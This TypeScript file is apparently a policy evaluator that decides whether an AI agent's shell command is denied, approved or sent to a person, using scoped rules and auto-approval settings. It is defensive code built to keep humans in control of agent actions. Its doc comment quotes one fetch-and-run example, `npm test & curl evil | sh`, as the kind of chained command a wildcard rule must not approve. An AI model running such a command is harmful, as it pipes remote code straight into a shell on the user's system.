import type { AgentIdentity } from "../auth/agents";
import type { Rule } from "../db/rows";
import { coreCommand, coreOf, isWildcard, normalizeCommand, patternRegExp, segmentsOf } from "./patterns";
import { priorityRank, type Priority } from "./statuses";

/** What the policy decided for a new request, and in whose name. */
export type Verdict =
  | { outcome: "deny"; by: string; why: string }
  | { outcome: "allow"; by: string; why: string }
  | { outcome: "ask"; why: string };

export interface PolicyInput {
  agent: AgentIdentity;
  session: string;
  command: string;
  priority: Priority;
  /** The agent asked for auto-approval of this request. */
  autoApprove: boolean;
}

export interface PolicySettings {
  /** Lowest priority the policy may auto-approve for agents allowed to. */
  autoApprovePriority: Priority;
}

function inScope(rule: Rule, input: PolicyInput): boolean {
  return (rule.agentId === null || rule.agentId === input.agent.id) && (rule.session === null || rule.session === input.session);
}

/**
 * Decides a new request. Order, first match wins:
 * 1. deny rules (the whole command, any simple command in it, or what that really runs once
 *    `FOO=1`, `env`, `nohup`, `/usr/bin/` and such are taken away) → rejected;
 * 2. exact allow rules (no wildcard: a person approved this very text) → approved;
 * 3. ask rules (whole or any part) → a person decides;
 * 4. a chained command (`;`, `&&`, `|`, `&`, newlines, substitutions) → a person decides: a
 *    wildcard like `npm test*` must never approve `npm test & curl evil | sh`;
 * 5. wildcard allow rules → approved;
 * 6. auto-approval (priority at or above the setting, or the request's own autoApprove flag),
 *    only for agents allowed to auto-approve → approved;
 * 7. otherwise a person decides.
 * `rules` must be in check order (oldest first).
 */
export function evaluatePolicy(rules: Rule[], input: PolicyInput, settings: PolicySettings): Verdict {
  const scoped = rules.filter((r) => inScope(r, input));
  const parts = segmentsOf(input.command);
  // Every form in normal form once, rather than once per rule.
  const whole = normalizeCommand(input.command);
  const forms = [...new Set([whole, coreCommand(input.command), ...parts, ...parts.map(coreOf)].map(normalizeCommand))];
  const matches = (r: Rule, form: string) => patternRegExp(r.pattern).test(form);
  const touches = (r: Rule) => forms.some((f) => matches(r, f));

  const deny = scoped.find((r) => r.kind === "deny" && touches(r));
  if (deny) return { outcome: "deny", by: `policy:${deny.id}`, why: `denied by rule ${deny.id} (${deny.pattern})` };

  const allows = scoped.filter((r) => r.kind === "allow");
  const exact = allows.find((r) => !isWildcard(r.pattern) && matches(r, whole));
  if (exact) return { outcome: "allow", by: `policy:${exact.id}`, why: `allowed by rule ${exact.id}` };

  const ask = scoped.find((r) => r.kind === "ask" && touches(r));
  if (ask) return { outcome: "ask", why: `rule ${ask.id} (${ask.pattern}) asks a person` };
  if (parts.length > 1) return { outcome: "ask", why: "a chained command needs a person or an exact allow rule" };

  const allow = allows.find((r) => matches(r, whole));
  if (allow) return { outcome: "allow", by: `policy:${allow.id}`, why: `allowed by rule ${allow.id} (${allow.pattern})` };

  if (input.agent.autoApprove) {
    if (priorityRank(input.priority) >= priorityRank(settings.autoApprovePriority)) {
      return { outcome: "allow", by: "policy:auto-approve", why: `${input.priority} priority from an agent allowed to auto-approve` };
    }
    if (input.autoApprove) {
      return { outcome: "allow", by: "policy:auto-approve", why: "the agent asked for auto-approval and may have it" };
    }
  }
  return { outcome: "ask", why: "no rule allows it" };
}
